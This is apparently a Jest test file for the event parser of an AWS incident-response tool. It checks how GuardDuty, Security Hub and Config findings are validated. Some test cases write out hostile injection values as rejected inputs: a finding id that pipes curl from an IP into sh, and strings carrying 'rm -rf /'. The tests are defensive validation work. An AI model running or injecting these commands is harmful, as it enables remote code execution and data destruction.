import { GuardDutyInstanceSchema } from '../../../lambdas/isolate-ec2/target';
import { InvalidEventError } from '../../../lambdas/shared/errors';
import {
  baseConfigRuleName,
  type EventKind,
  findingIdOf,
  findingTypeOf,
  parseEvent,
  parseWith,
  type SourceFinding,
} from '../../../lambdas/shared/events';
import { inactiveReason } from '../../../lambdas/shared/inactive';
import configEvent from '../../fixtures/shared/config-compliance-change.json';
import guardDutyEvent from '../../fixtures/shared/guardduty-ec2-finding.json';
import securityHubEvent from '../../fixtures/shared/securityhub-custom-action.json';

const ALL: readonly EventKind[] = ['guardduty', 'securityhub', 'config'];

/** A fresh copy of a fixture with one change applied. */
function variant<T>(fixture: T, change: (event: T) => void): T {
  const event = structuredClone(fixture);
  change(event);
  return event;
}

/** The InvalidEventError that parsing `event` throws (fails the test if it parses). */
function rejectionOf(event: unknown, accepts: readonly EventKind[] = ALL): InvalidEventError {
  try {
    parseEvent(event, accepts);
  } catch (error) {
    if (error instanceof InvalidEventError) return error;
    throw error;
  }
  throw new Error('parseEvent accepted the event');
}

function only(event: unknown, accepts: readonly EventKind[] = ALL): SourceFinding {
  const [source, ...rest] = parseEvent(event, accepts);
  expect(rest).toEqual([]);
  if (!source) throw new Error('no finding parsed');
  return source;
}

describe('parseEvent: GuardDuty finding', () => {
  it('returns one finding whose account and region are the finding’s own, not the envelope’s', () => {
    // Act
    const sources = parseEvent(guardDutyEvent, ['guardduty']);

    // Assert
    expect(sources).toHaveLength(1);
    expect(sources[0]).toMatchObject({
      kind: 'guardduty',
      accountId: '222222222222',
      region: 'eu-west-1',
      path: 'detail',
      finding: {
        id: '5ac8f2d1e7b04a5c9a1f3d6b2e8c4f70',
        arn: guardDutyEvent.detail.arn,
        type: 'Backdoor:EC2/C&CActivity.B',
        accountId: '222222222222',
        region: 'eu-west-1',
        severity: 8,
        service: { archived: false, count: 1 },
      },
    });
  });

  it('keeps the camelCase instance details, with lower-case tag pairs, for the responder to parse', () => {
    // Act
    const source = only(guardDutyEvent);

    // Assert
    if (source.kind !== 'guardduty') throw new Error(`parsed as ${source.kind}`);
    expect(source.finding.resource.instanceDetails).toEqual(
      guardDutyEvent.detail.resource.instanceDetails,
    );
  });
});

describe('parseEvent: Security Hub custom action', () => {
  it('returns one finding per ASFF finding, each targeting its own account and region', () => {
    // Act
    const sources = parseEvent(securityHubEvent, ['securityhub']);

    // Assert
    expect(
      sources.map((s) => ({
        kind: s.kind,
        accountId: s.accountId,
        region: s.region,
        path: s.path,
        actionName: s.kind === 'securityhub' ? s.actionName : undefined,
        id: findingIdOf(s),
      })),
    ).toEqual([
      {
        kind: 'securityhub',
        accountId: '222222222222',
        region: 'eu-west-1',
        path: 'detail.findings[0]',
        actionName: 'IsolateEC2',
        id: securityHubEvent.detail.findings[0]?.Id,
      },
      {
        kind: 'securityhub',
        accountId: '333333333333',
        region: 'ap-southeast-2',
        path: 'detail.findings[1]',
        actionName: 'IsolateEC2',
        id: securityHubEvent.detail.findings[1]?.Id,
      },
    ]);
  });

  it('takes the region of the first resource when the finding has none', () => {
    // Arrange
    const event = variant(securityHubEvent, (e) => {
      delete (e.detail.findings[1] as { Region?: string }).Region;
    });

    // Act
    const sources = parseEvent(event, ['securityhub']);

    // Assert
    expect(sources[1]?.region).toBe('ap-southeast-2');
  });

  it('takes the region of the resource ARN, then of the ProductArn, never the envelope’s', () => {
    // Arrange: the envelope is in us-east-1; the finding names ap-southeast-2 only in its ARNs
    const event = variant(securityHubEvent, (e) => {
      const finding = e.detail.findings[1] as { Region?: string; Resources: { Region?: string }[] };
      delete finding.Region;
      delete finding.Resources[0]?.Region;
    });
    const productOnly = variant(event, (e) => {
      (e.detail.findings[1] as { Resources: { Id: string }[] }).Resources[0] = {
        ...(e.detail.findings[1]?.Resources[0] as { Id: string }),
        Id: 'i-0123456789abcdef0',
      };
    });

    // Act
    const fromArn = parseEvent(event, ['securityhub'])[1];
    const fromProduct = parseEvent(productOnly, ['securityhub'])[1];

    // Assert
    expect([fromArn?.region, fromProduct?.region]).toEqual(['ap-southeast-2', 'ap-southeast-2']);
  });

  it('rejects a finding that names no region anywhere, even though the envelope does', () => {
    // Arrange
    const event = variant(securityHubEvent, (e) => {
      const finding = e.detail.findings[1] as {
        Region?: string;
        ProductArn: string;
        Resources: { Region?: string; Id: string }[];
      };
      delete finding.Region;
      delete finding.Resources[0]?.Region;
      (finding.Resources[0] as { Id: string }).Id = 'i-0123456789abcdef0';
      finding.ProductArn = 'arn:aws:securityhub:::product/example/scanner';
    });

    // Act
    const error = rejectionOf(event, ['securityhub']);

    // Assert
    expect(error.path).toBe('detail.findings[1].Region');
    expect(error.detail).toMatch(/no resource Region, regional resource ARN or ProductArn/);
  });

  it('rejects a finding whose resource partition is not its region’s', () => {
    // Arrange: an envelope and partition of aws-cn cannot move a us finding to China, or back
    const event = variant(securityHubEvent, (e) => {
      e.region = 'cn-north-1';
      (e.detail.findings[0]?.Resources[0] as { Partition: string }).Partition = 'aws-cn';
    });

    // Act
    const error = rejectionOf(event, ['securityhub']);

    // Assert
    expect(error.message).toBe(
      'detail.findings[0].Resources[0].Partition: names partition aws-cn, but region eu-west-1 is in aws',
    );
  });
});

describe('parseEvent: Config compliance change', () => {
  it('returns one finding for the evaluated resource in its account and region', () => {
    // Act
    const source = only(configEvent, ['config']);

    // Assert
    expect(source).toMatchObject({
      kind: 'config',
      accountId: '444444444444',
      region: 'eu-central-1',
      path: 'detail',
      compliance: {
        resourceId: 'sg-0a1b2c3d4e5f67890',
        resourceType: 'AWS::EC2::SecurityGroup',
        configRuleName: 'securityhub-restricted-ssh-8c9d0e1f',
        newEvaluationResult: {
          complianceType: 'NON_COMPLIANT',
          annotation: 'The security group allows 0.0.0.0/0 on port 22.',
        },
      },
    });
  });
});

describe('parseEvent: input that is not an event object', () => {
  it.each([
    ['undefined', undefined],
    ['null', null],
    ['a string', '{"source":"aws.guardduty"}'],
    ['a number', 42],
    ['an empty array', []],
    ['an array holding an event', [guardDutyEvent]],
  ])('rejects %s before reading any field', (_what, event) => {
    // Act
    const error = rejectionOf(event);

    // Assert
    expect(error.name).toBe('InvalidEventError');
    expect(error.message).toBe('(event): must be an EventBridge event object');
    expect(error.path).toBe('(event)');
  });

  it('rejects an empty object, naming the first missing envelope field', () => {
    // Act
    const error = rejectionOf({});

    // Assert
    expect(error.message).toBe('detail-type: Invalid input: expected string, received undefined');
  });
});

describe('parseEvent: source and detail-type', () => {
  it('rejects an event from another source and lists the accepted ones', () => {
    // Arrange
    const event = variant(guardDutyEvent, (e) => {
      e.source = 'aws.ec2';
    });

    // Act
    const error = rejectionOf(event, ['guardduty', 'securityhub']);

    // Assert
    expect(error.message).toBe(
      'source / detail-type: this responder accepts aws.guardduty / GuardDuty Finding, ' +
        'aws.securityhub / Security Hub Findings - Custom Action (got "aws.ec2" / "GuardDuty Finding")',
    );
  });

  it('rejects a known kind that this responder does not accept', () => {
    // Act
    const error = rejectionOf(configEvent, ['guardduty']);

    // Assert
    expect(error.message).toBe(
      'source / detail-type: this responder accepts aws.guardduty / GuardDuty Finding ' +
        '(got "aws.config" / "Config Rules Compliance Change")',
    );
  });

  it('rejects a detail-type that only differs in letter case', () => {
    // Arrange
    const event = variant(guardDutyEvent, (e) => {
      e['detail-type'] = 'GuardDuty finding';
    });

    // Act
    const error = rejectionOf(event, ['guardduty']);

    // Assert
    expect(error.path).toBe('source / detail-type');
  });

  it('truncates an over-long source in the message', () => {
    // Arrange
    const event = variant(guardDutyEvent, (e) => {
      e.source = 's'.repeat(128);
    });

    // Act
    const error = rejectionOf(event, ['guardduty']);

    // Assert
    expect(error.message).toBe(
      'source / detail-type: this responder accepts aws.guardduty / GuardDuty Finding ' +
        `(got "${'s'.repeat(64)}…" / "GuardDuty Finding")`,
    );
  });
});

describe('parseEvent: envelope fields', () => {
  it.each<[string, (e: typeof guardDutyEvent) => void, string]>([
    [
      'a 10-digit envelope account',
      (e) => {
        e.account = '1111111111';
      },
      'account: must be a 12-digit AWS account id (got "1111111111")',
    ],
    [
      'an envelope region that is no region name',
      (e) => {
        e.region = 'US_EAST_1';
      },
      'region: must be an AWS region name (got "US_EAST_1")',
    ],
    [
      'a detail that is a string',
      (e) => {
        (e as { detail: unknown }).detail = 'finding';
      },
      'detail: Invalid input: expected record, received string (got "finding")',
    ],
    [
      'an over-long source',
      (e) => {
        e.source = 'a'.repeat(129);
      },
      `source: Too big: expected string to have <=128 characters (got "${'a'.repeat(64)}…")`,
    ],
  ])('rejects %s', (_what, change, message) => {
    // Act
    const error = rejectionOf(variant(guardDutyEvent, change));

    // Assert
    expect(error.message).toBe(message);
  });
});

describe('parseEvent: GuardDuty detail fields', () => {
  it.each<[string, (d: typeof guardDutyEvent.detail) => void, string]>([
    [
      'a missing accountId',
      (d) => {
        delete (d as { accountId?: string }).accountId;
      },
      'detail.accountId: Invalid input: expected string, received undefined',
    ],
    [
      'a numeric accountId',
      (d) => {
        (d as { accountId: unknown }).accountId = 222222222222;
      },
      'detail.accountId: Invalid input: expected string, received number (got "222222222222")',
    ],
    [
      'an accountId with 13 digits',
      (d) => {
        d.accountId = '2222222222222';
      },
      'detail.accountId: must be a 12-digit AWS account id (got "2222222222222")',
    ],
    [
      'a region that is no region name',
      (d) => {
        d.region = 'eu-west';
      },
      'detail.region: must be an AWS region name (got "eu-west")',
    ],
    [
      'a shell-like finding id',
      (d) => {
        d.id = '$(curl -s http://203.0.113.9/x | sh)';
      },
      'detail.id: must be a GuardDuty finding id (got "$(curl -s http://203.0.113.9/x | sh)")',
    ],
    [
      'an over-long type',
      (d) => {
        d.type = `Backdoor:EC2/${'x'.repeat(200)}`;
      },
      `detail.type: Too big: expected string to have <=128 characters (got "Backdoor:EC2/${'x'.repeat(51)}…")`,
    ],
    [
      'an ARN of another service',
      (d) => {
        d.arn = 'arn:aws:inspector2:eu-west-1:222222222222:finding/abc';
      },
      'detail.arn: must be a GuardDuty finding ARN (got "arn:aws:inspector2:eu-west-1:222222222222:finding/abc")',
    ],
    [
      'a missing resource',
      (d) => {
        delete (d as { resource?: unknown }).resource;
      },
      'detail.resource: Invalid input: expected object, received undefined',
    ],
    [
      'an empty resourceType',
      (d) => {
        d.resource.resourceType = '';
      },
      'detail.resource.resourceType: Too small: expected string to have >=1 characters (got "")',
    ],
    [
      'a string where service.archived is a boolean',
      (d) => {
        (d.service as { archived: unknown }).archived = 'false';
      },
      'detail.service.archived: Invalid input: expected boolean, received string (got "false")',
    ],
  ])('rejects %s, naming the field path', (_what, change, message) => {
    // Arrange
    const event = variant(guardDutyEvent, (e) => change(e.detail));

    // Act
    const error = rejectionOf(event, ['guardduty']);

    // Assert
    expect(error.name).toBe('InvalidEventError');
    expect(error.message).toBe(message);
  });

  it('quotes at most 64 characters of a huge hostile value', () => {
    // Arrange
    const hostile = `"; rm -rf / #\n\u0000${'A'.repeat(100_000)}`;
    const event = variant(guardDutyEvent, (e) => {
      e.detail.id = hostile;
    });

    // Act
    const error = rejectionOf(event, ['guardduty']);

    // Assert
    expect(error.message).toBe(
      `detail.id: must be a GuardDuty finding id (got ${JSON.stringify(`${hostile.slice(0, 64)}…`)})`,
    );
    expect([error.message.includes('\n'), error.message.includes('\u0000')]).toEqual([
      false,
      false,
    ]);
    expect(error.message.length).toBeLessThan(150);
  });
});

describe('parseEvent: Security Hub detail fields', () => {
  it.each<[string, (d: typeof securityHubEvent.detail) => void, string]>([
    [
      'an account id of the second finding that is too short',
      (d) => {
        (d.findings[1] as { AwsAccountId: string }).AwsAccountId = '33333333';
      },
      'detail.findings[1].AwsAccountId: must be a 12-digit AWS account id (got "33333333")',
    ],
    [
      'a region of the first finding that is no region name',
      (d) => {
        (d.findings[0] as { Region: string }).Region = 'Ireland';
      },
      'detail.findings[0].Region: must be an AWS region name (got "Ireland")',
    ],
    [
      'a finding without resources',
      (d) => {
        (d.findings[1] as { Resources: unknown[] }).Resources = [];
      },
      'detail.findings[1].Resources: Too small: expected array to have >=1 items (got "[]")',
    ],
    [
      'an ASFF Id longer than 512 characters',
      (d) => {
        (d.findings[0] as { Id: string }).Id = `arn:aws:securityhub:${'x'.repeat(600)}`;
      },
      `detail.findings[0].Id: Too big: expected string to have <=512 characters (got "arn:aws:securityhub:${'x'.repeat(44)}…")`,
    ],
    [
      'an unknown RecordState',
      (d) => {
        (d.findings[0] as { RecordState: string }).RecordState = 'DELETED';
      },
      'detail.findings[0].RecordState: Invalid option: expected one of "ACTIVE"|"ARCHIVED" (got "DELETED")',
    ],
    [
      'a finding that is null',
      (d) => {
        (d.findings as unknown[])[1] = null;
      },
      'detail.findings[1]: Invalid input: expected object, received null (got "null")',
    ],
    [
      'an empty findings list',
      (d) => {
        d.findings = [];
      },
      'detail.findings: Too small: expected array to have >=1 items (got "[]")',
    ],
    [
      'a missing actionName',
      (d) => {
        delete (d as { actionName?: string }).actionName;
      },
      'detail.actionName: Invalid input: expected string, received undefined',
    ],
  ])('rejects %s, naming the field path', (_what, change, message) => {
    // Arrange
    const event = variant(securityHubEvent, (e) => change(e.detail));

    // Act
    const error = rejectionOf(event, ['securityhub']);

    // Assert
    expect(error.message).toBe(message);
  });
});

describe('parseEvent: Config detail fields', () => {
  it.each<[string, (d: typeof configEvent.detail) => void, string]>([
    [
      'an unknown complianceType',
      (d) => {
        d.newEvaluationResult.complianceType = 'FAILED';
      },
      'detail.newEvaluationResult.complianceType: Invalid option: expected one of ' +
        '"COMPLIANT"|"NON_COMPLIANT"|"NOT_APPLICABLE"|"INSUFFICIENT_DATA" (got "FAILED")',
    ],
    [
      'a rule name with shell characters',
      (d) => {
        d.configRuleName = 'restricted-ssh; rm -rf /';
      },
      'detail.configRuleName: must be a Config rule name (got "restricted-ssh; rm -rf /")',
    ],
    [
      'a resource type that is not AWS::Service::Type',
      (d) => {
        d.resourceType = 'SecurityGroup';
      },
      'detail.resourceType: must be a Config resource type (got "SecurityGroup")',
    ],
    [
      'a missing awsAccountId',
      (d) => {
        delete (d as { awsAccountId?: string }).awsAccountId;
      },
      'detail.awsAccountId: Invalid input: expected string, received undefined',
    ],
    [
      'an awsRegion longer than 32 characters',
      (d) => {
        d.awsRegion = `eu-${'central'.repeat(5)}-1`;
      },
      `detail.awsRegion: Too big: expected string to have <=32 characters (got "eu-${'central'.repeat(5)}-1")`,
    ],
  ])('rejects %s, naming the field path', (_what, change, message) => {
    // Arrange
    const event = variant(configEvent, (e) => change(e.detail));

    // Act
    const error = rejectionOf(event, ['config']);

    // Assert
    expect(error.message).toBe(message);
  });
});

describe('parseWith', () => {
  it('prefixes the path of a responder’s own schema with where the value sits', () => {
    // Arrange
    const details = { ...guardDutyEvent.detail.resource.instanceDetails, instanceId: 'i-XYZ' };

    // Act
    const act = () =>
      parseWith(GuardDutyInstanceSchema, details, ['detail.findings[1]', 'Resources', 0]);

    // Assert
    expect(act).toThrow(
      new InvalidEventError(
        'detail.findings[1].Resources[0].instanceId',
        'must be an EC2 instance id (got "i-XYZ")',
      ),
    );
  });

  it('returns the parsed value, keeping the fields the schema names', () => {
    // Act
    const parsed = parseWith(
      GuardDutyInstanceSchema,
      guardDutyEvent.detail.resource.instanceDetails,
      ['detail', 'resource', 'instanceDetails'],
    );

    // Assert: the interfaces are kept as they came, for the responder to read as hints
    expect(parsed).toEqual({
      instanceId: 'i-0a1b2c3d4e5f67890',
      networkInterfaces: guardDutyEvent.detail.resource.instanceDetails.networkInterfaces,
    });
  });
});

describe('parseEvent: GuardDuty resource details', () => {
  it('keeps every resource detail, unvalidated, for the responder that acts on it', () => {
    // Arrange: a Lambda Protection finding carries lambdaDetails, not instanceDetails
    const event = structuredClone(guardDutyEvent) as unknown as {
      detail: { type: string; resource: Record<string, unknown> };
    };
    event.detail.type = 'Backdoor:Lambda/C&CActivity.B';
    event.detail.resource = {
      resourceType: 'Lambda',
      lambdaDetails: { functionName: 'orders', role: 'arn:aws:iam::111122223333:role/r' },
      s3BucketDetails: [{ name: 'b' }],
    };

    // Act
    const [source] = parseEvent(event, ['guardduty']);

    // Assert
    expect(source?.kind === 'guardduty' && source.finding.resource).toEqual(event.detail.resource);
  });
});

describe('baseConfigRuleName', () => {
  it.each([
    ['restricted-ssh', 'restricted-ssh'],
    ['securityhub-restricted-ssh-8c9d0e1f', 'restricted-ssh'],
    [
      'securityhub-vpc-sg-open-only-to-authorized-ports-0a1b2c3d',
      'vpc-sg-open-only-to-authorized-ports',
    ],
    ['restricted-ssh-conformance-pack-6gzwtqfz9', 'restricted-ssh'],
    [
      's3-bucket-public-read-prohibited-conformance-pack-a1b2c3',
      's3-bucket-public-read-prohibited',
    ],
  ])('reads %s as %s', (name, base) => {
    expect(baseConfigRuleName(name)).toBe(base);
  });

  it.each([
    ['securityhub-restricted-ssh-8C9D0E1F', 'upper-case hex'],
    ['securityhub-restricted-ssh-8c9d0e1', 'seven hex digits'],
    ['securityhub-restricted-ssh-8c9d0e1fa', 'nine hex digits'],
    ['securityhub-8c9d0e1f', 'no rule name'],
    ['restricted-ssh-8c9d0e1f', 'no securityhub- prefix'],
    ['restricted-ssh-conformance-pack-', 'an empty pack suffix'],
    ['restricted-ssh-conformance-pack-Ab_1', 'a pack suffix with other characters'],
    ['conformance-pack-abc123', 'no rule name before the pack'],
  ])('keeps %s unchanged (%s)', (name) => {
    expect(baseConfigRuleName(name)).toBe(name);
  });
});

describe('inactiveReason', () => {
  it('says nothing for an active finding of each kind', () => {
    // Arrange
    const sources = [
      ...parseEvent(guardDutyEvent, ALL),
      ...parseEvent(securityHubEvent, ALL),
      ...parseEvent(configEvent, ALL),
    ];

    // Act
    const reasons = sources.map(inactiveReason);

    // Assert
    expect(reasons).toEqual([undefined, undefined, undefined, undefined]);
  });

  it.each<[string, unknown, string]>([
    [
      'an archived GuardDuty finding',
      variant(guardDutyEvent, (e) => {
        e.detail.service.archived = true;
      }),
      'the GuardDuty finding is archived',
    ],
    [
      'a GuardDuty sample finding',
      variant(guardDutyEvent, (e) => {
        (e.detail.service.additionalInfo as { sample?: boolean }).sample = true;
      }),
      'the GuardDuty finding is a sample finding',
    ],
    [
      'an ARCHIVED Security Hub finding',
      variant(securityHubEvent, (e) => {
        (e.detail.findings as { RecordState: string }[]).forEach((f) => {
          f.RecordState = 'ARCHIVED';
        });
      }),
      'the Security Hub finding is archived',
    ],
    [
      'a GuardDuty sample finding as copied to Security Hub',
      variant(securityHubEvent, (e) => {
        (e.detail.findings as { ProductFields?: Record<string, string> }[]).forEach((f) => {
          f.ProductFields = { 'aws/guardduty/service/additionalInfo/sample': 'true' };
        });
      }),
      'the Security Hub finding is a GuardDuty sample finding',
    ],
    [
      'a COMPLIANT Config evaluation',
      variant(configEvent, (e) => {
        e.detail.newEvaluationResult.complianceType = 'COMPLIANT';
      }),
      'the resource is COMPLIANT',
    ],
    [
      'a NOT_APPLICABLE Config evaluation',
      variant(configEvent, (e) => {
        e.detail.newEvaluationResult.complianceType = 'NOT_APPLICABLE';
      }),
      'the resource is NOT_APPLICABLE',
    ],
  ])('names why %s is not acted on', (_what, event, reason) => {
    // Act
    const source = parseEvent(event, ALL)[0];

    // Assert
    expect(source && inactiveReason(source)).toBe(reason);
  });
});

describe('findingIdOf and findingTypeOf', () => {
  it('use the GuardDuty id and type', () => {
    const source = only(guardDutyEvent);
    expect([findingIdOf(source), findingTypeOf(source)]).toEqual([
      '5ac8f2d1e7b04a5c9a1f3d6b2e8c4f70',
      'Backdoor:EC2/C&CActivity.B',
    ]);
  });

  it('use the ASFF Id and first type', () => {
    const source = parseEvent(securityHubEvent, ALL)[1] as SourceFinding;
    expect([findingIdOf(source), findingTypeOf(source)]).toEqual([
      'arn:aws:securityhub:ap-southeast-2:333333333333:security-control/EC2.8/finding/7d1e5c2a-3b4f-4e6a-9c8d-2f1a0b9e8d7c',
      'Software and Configuration Checks/AWS Security Best Practices',
    ]);
  });

  it('fall back to the ASFF GeneratorId, then to a fixed label, when Types is absent', () => {
    // Arrange
    const noTypes = variant(securityHubEvent, (e) => {
      delete (e.detail.findings[1] as { Types?: string[] }).Types;
    });
    const noGenerator = variant(noTypes, (e) => {
      delete (e.detail.findings[1] as { GeneratorId?: string }).GeneratorId;
    });

    // Act
    const types = [noTypes, noGenerator].map((e) =>
      findingTypeOf(parseEvent(e, ALL)[1] as SourceFinding),
    );

    // Assert
    expect(types).toEqual(['security-control/EC2.8', 'Security Hub finding']);
  });

  it('use <rule>/<resource> and the rule name for a Config change', () => {
    const source = only(configEvent);
    expect([findingIdOf(source), findingTypeOf(source)]).toEqual([
      'securityhub-restricted-ssh-8c9d0e1f/sg-0a1b2c3d4e5f67890',
      'securityhub-restricted-ssh-8c9d0e1f',
    ]);
  });
});
